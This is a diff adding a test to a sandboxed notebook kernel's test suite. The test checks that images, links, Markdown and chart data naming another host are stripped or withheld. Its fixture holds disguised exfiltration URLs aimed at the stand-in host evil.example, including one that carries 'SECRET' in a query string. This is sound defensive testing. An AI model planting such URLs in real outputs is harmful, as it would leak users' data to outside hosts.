@@ -238,3 +238,30 @@ clear_output()
         ("stream", "after\n"),
         ("clear_output", False),
     ]
+
+
+def test_no_url_to_another_host_leaves_the_kernel(kc: BlockingKernelClient) -> None:
+    """allow_net is empty: images, links and a Vega data URL that name another host (as browsers parse URLs)
+    lose the URL or are not sent, with the reason; what stays on the page is kept."""
+    code = r"""
+from IPython.display import HTML, Markdown, display
+display(HTML('<img src="/\\evil.example/x?d=SECRET"><img src=" &#x2F;&#x5C;evil.example/y"><img src="figures/a.png">'
+             '<a href="https://evil.example/">docs</a> <a href="#top">top</a>'))
+display(Markdown("see www.evil.example and ![x](//evil.example/y)"))
+display({"application/vnd.vegalite.v5+json": {"data": {"url": "/\\evil.example/d.csv"}, "mark": "bar"},
+         "text/plain": "chart"}, raw=True)
+"""
+    run = execute(kc, code)
+    assert run.content["status"] == "ok", run.content
+    html, markdown, chart = (d["data"] for d in run.of_type("display_data"))
+    assert html["text/html"] == (
+        '<img><img><img src="figures/a.png"><a rel="noopener noreferrer nofollow">docs</a> '
+        '<a href="#top" rel="noopener noreferrer nofollow">top</a>'
+    )
+    assert "text/markdown" not in markdown
+    assert markdown["text/html"] == '<p>see www.evil.example and <img alt="x"></p>\n'
+    assert chart == {"text/plain": "chart"}
+    assert (
+        "output of type application/vnd.vegalite.v5+json was not sent: it names a URL on 'evil.example', a host not "
+        "in SandboxKernel.allow_net" in run.stream("stderr")
+    )
